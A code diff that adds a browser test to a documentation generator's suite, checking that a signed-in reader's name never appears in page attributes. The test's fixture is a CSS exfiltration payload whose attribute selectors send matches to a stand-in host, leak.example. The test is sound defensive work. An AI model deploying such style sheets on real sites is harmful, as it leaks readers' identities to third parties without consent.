@@ -460,6 +460,45 @@ def test_auth_mode_sends_the_token_to_the_site_only(
     assert seen == []
 
 
+# A pull request's style sheet that reads the signed-in reader's name from attributes (or a
+# Tailwind arbitrary variant doing the same) and sends each match to another site.
+LEAK_CSS = """
+[data-docgen-signin][data-user*="ada"] { background-image: url(https://leak.example/user) }
+[data-docgen-signin][title*="ada"] { border-image: url(https://leak.example/title) 1 }
+"""
+
+
+def test_the_readers_name_is_in_no_attribute_a_style_sheet_could_read(
+    page: Any, tmp_path: Path, upstream: Upstream, key: ec.EllipticCurvePrivateKey
+) -> None:
+    """CSS attribute selectors match attributes, never text: the signed-in reader's name is
+    shown as text only, so the docs repo's CSS cannot send it to another site."""
+    root = tmp_path / "leak"
+    root.mkdir()
+    (root / "style.css").write_text(LEAK_CSS)
+    auth = {"type": "jwt", "loginUrl": "https://login.example.com/sso", "publicKey": _pem(key)}
+    leaked: list[str] = []
+
+    def record(route: Any) -> None:
+        leaked.append(route.request.url)
+        route.fulfill(status=204, body="")
+
+    page.route("https://leak.example/**", record)
+    with _site(root, upstream, {"display": "auth"}, auth=auth) as url:
+        name = "ada.lovelace@example.com"
+        assert _sign_in(page, url, _token(key, sub="u1", email=name)) in ("ok", "ok:None")
+        page.goto(url + "/")
+        page.wait_for_selector("[data-docgen-signin][data-state=signed-in]")
+        assert "ada.lovelace" in page.inner_text("[data-docgen-signin]")
+        attributes = page.evaluate(
+            "Array.from(document.querySelectorAll('*')).flatMap("
+            "e => Array.from(e.attributes, a => a.value))"
+        )
+        assert not [value for value in attributes if "ada" in value]
+        page.wait_for_load_state("networkidle")
+    assert leaked == []
+
+
 def test_auth_mode_wrong_group_sees_only_pages_without_groups(
     page: Any, auth_site: str, key: ec.EllipticCurvePrivateKey
 ) -> None:
